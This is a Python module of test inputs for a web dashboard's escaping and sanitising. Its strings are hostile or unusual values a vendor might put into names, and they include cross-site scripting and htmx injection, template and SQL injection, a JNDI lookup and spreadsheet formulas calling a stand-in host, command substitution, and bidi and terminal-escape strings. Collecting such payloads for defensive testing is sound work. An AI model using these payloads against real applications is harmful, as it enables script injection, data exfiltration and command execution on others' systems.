"""Names that nobody means well with: what a vendor, or whoever may name things there, could put into any of its texts.

Each that would run something runs the same: `ran()`, or a request to `/ran`. Each that would turn writing around stands between
⟦ and ⟧, so that a test sees whether its surroundings stay as they were.
"""

from __future__ import annotations

CALL = "window.ran=1"
OPEN, CLOSE = "\u27e6", "\u27e7"

_HANDLERS = (
    "onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontransitionend", "ontoggle", "onpointerover",
    "onbegin", "onscroll", "onwheel", "oncontentvisibilityautostatechange", "onbeforetoggle", "hx-on:load", "hx-on--load",
)  # fmt: skip
_ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT >",
    f"</script><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "<script src=/ran></script>",
    "<script src=//ran.example/ran></script>",
    "<img src=/ran>",
    f"<img src=x onerror={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
    "<iframe src=/ran></iframe>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    "<object data=/ran></object>",
    "<embed src=/ran>",
    "<link rel=stylesheet href=/ran>",
    "<link rel=prefetch href=/ran>",
    "<style>@import '/ran'</style>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=/ran'>",
    "<base href=//ran.example/>",
    "<form action=/ran><button>Start 45 copies</button></form>",
    "<input autofocus onfocus=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<audio src=/ran autoplay>",
    f"<details open ontoggle={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<a href=javascript:{CALL}>delete</a>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><script>{CALL}</script>'>",
    "<plaintext>",
    "<!--",
    "<!DOCTYPE html>",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    "<",
    ">",
    "</",
    "</td></tr></table><h1>Nothing has failed</h1>",
    "</div></main></body></html>",
    "<h1 style=position:fixed;inset:0;background:red>",
    "<dialog open>", "<portal src=/ran>", "<slot name=x>", "<table><tr><td>",
)  # fmt: skip
_ATTRIBUTES = (
    "\"", "'", "`", "\"'><", '" autofocus onfocus="window.ran=1', "' autofocus onfocus='window.ran=1",
    '" style="position:fixed;inset:0', "x' onmouseover=window.ran=1 y='", "\" accesskey=x onclick=\"window.ran=1",
    "javascript:window.ran=1", "JaVaScRiPt:window.ran=1", "java\tscript:window.ran=1", "data:text/html,<script>ran()</script>",
    "vbscript:ran", "//ran.example/", "\\\\ran.example\\ran", "&#60;script&#62;window.ran=1&#60;/script&#62;", "&lt;b&gt;", "&amp;",
    "&nbsp;", "&#x202e;", "&Tab;", "%3Cscript%3Ewindow.ran=1%3C/script%3E", "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "\\x3cscript\\x3e", "?status=FAILED&all=1", "#page", "../../../logout/", "/logout/", "a&b=c;d", "%00", "%2e%2e%2f", "+",
    "a+b c",
)  # fmt: skip
_HTMX = (
    '<div hx-get=/ran hx-trigger=load></div>', '<div data-hx-get=/ran data-hx-trigger=load></div>',
    '" hx-get="/ran" hx-trigger="load', '<div hx-post=/logout/ hx-trigger=load></div>', '<div hx-swap-oob=true id=strip>fine</div>',
    '<title>(0) fine</title>', '<div hx-vals="js:{a: window.ran=1}" hx-get=/ran hx-trigger=load>', '<div hx-ext=x>',
    '<div hx-on::after-request="window.ran=1">', '<div hx-boost=true><a href=/ran>x</a></div>',
    '<div data-live hx-get=/ran hx-trigger="every 1s">', '<meta name=htmx-config content=\'{"allowEval":true}\'>',
    '<div hx-headers=\'js:{"x": window.ran=1}\'>', '<button formaction=/ran>Retry</button>', '<div hx-preserve id=page>',
)  # fmt: skip
_TEMPLATES = (
    "{{ 7|add:7 }}", "{% include '/etc/passwd' %}", "{% load static %}", "{{ settings.SECRET_KEY }}", "{# a #}", "{% endblock %}",
    "{% debug %}", "{{", "}}", "{%", "%}", "{0.__class__}", "{account.sealed}", "{region}", "{", "}", "{{}}", "%s", "%(name)s",
    "%n%n%n%n", "%d", "$(id)", "`id`", "${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}", "${jndi:ldap://ran.example/ran}", "%Y",
    "{__import__('os')}", "{0}", "{!r}", "'; DROP TABLE dashboard_copytask; --", "' OR '1'='1", "\\", "\\\\", "\\n", "\\0",
    "100%", "_%_", "*", "?", "[a-z]", "(", "a(b", ".*", "^", "$", "|", "~",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://ran.example/ran","x")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", '"=1+1"', "＝1+1", "＋1", "－1", "＠A1", "=1+1;=2", "a\n=1+1", 'a","=1+1', "a\r\n=1+1", "%=1+1",
    "=IMPORTXML(CONCAT(\"http://ran.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"\")", "'=1+1", "|=1", "−1", "\u200b=1+1",
)  # fmt: skip
_TURNED = (
    "\u202egnp.exe", "\u202eabc\u202c", "\u202dabc", "\u202aabc", "\u202babc", "\u2066abc", "\u2067abc", "\u2068abc", "abc\u202e",
    "\u202e" * 20 + "abc", "\u200fabc", "\u200eabc", "\u061cabc", "שלום", "שלום 123", "مرحبا بالعالم", "(مرحبا) - 1, 2", "ܫܠܡܐ",
    "ߊߋߌ",
    "סוף!", "١٢٣", "\u2069\u2069abc", "א/ב → ג", "𐤀𐤁", "𞤀𞤣",
)  # fmt: skip
_UNSEEN = (
    "\u200b", "a\u200bb", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "a\u00adb", "\u034f", "\u115f", "\u3164", "\u180e",
    "\ufff9a\ufffab\ufffb", "\u2028", "\u2029", "\u0085", "\u00a0", " ", "   ", "\t", "\n", "a\nb\nc", "a\r\nb", "\x0b", "\x0c",
    "\x00", "a\x00b", "\x01\x02\x03", "\x1b[2J\x1b[1;1H", "\x1b[31mred\x1b[0m", "\x1b]0;owned\x07", "\x9b31m", "\x08\x08\x08",
    "\x7f", "\x1b]8;;http://ran.example\x1b\\x\x1b]8;;\x1b\\", "\ue000", "\uffff", "\U000e0041\U000e0042", "\U0010ffff", "\ufffd",
)  # fmt: skip
_DRAWN = (
    "😀", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇨🇳", "👍🏿", "☃️", "Z̷̧̛̤a̸͔͝l̵̛̟g̴̰͝ǫ̷̈́", "e" + "\u0301" * 200, "ก" + "็" * 100, "ﷺ" * 20, "𒐫" * 20, "꧅" * 10,
    "ｆｕｌｌ", "ﬀ", "İi̇ıI", "ß", "Ω≠Ω", "云盘快照", "ディスク", "디스크", "ไทย", "हिन्दी", "ελληνικά",
    "кириллица", "раураl", "Ａｄｍｉｎ", "①②③", "\u0600",
)  # fmt: skip
_LONG = (
    "x" * 10_000, "w " * 5_000, "盘" * 3_000, "-" * 10_000, "W" * 300, "a/" * 2_000, "😀" * 2_000, "<b>" * 3_000, "\u00a0" * 500,
    "iiii" * 75, "a-name-without-any-blank-" * 12, "0" * 400, "." * 400, "_" * 400, "\u0e33" * 300,
)  # fmt: skip
_NOTHINGS = (
    "", "null", "NULL", "None", "nil", "undefined", "NaN", "Infinity", "true", "false", "0", "-0", "-1", "1e309", "0x0", "[]", "{}",
    "[object Object]", "n/a", "N/A", "-", "--", "...", "CON", "constructor", "__proto__",
    "hasOwnProperty", "toString", "length", "id",
)  # fmt: skip

TURNED = tuple(f"{OPEN}{text}{CLOSE}" for text in _TURNED)
HANDLED = tuple(f"<p {handler}={CALL} style=animation-name:x>{handler}</p>" for handler in _HANDLERS)
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *_ELEMENTS, *HANDLED, *_ATTRIBUTES, *_HTMX, *_TEMPLATES, *_FORMULAS, *TURNED, *_UNSEEN, *_DRAWN, *_LONG, *_NOTHINGS,
        )
    )
)  # fmt: skip
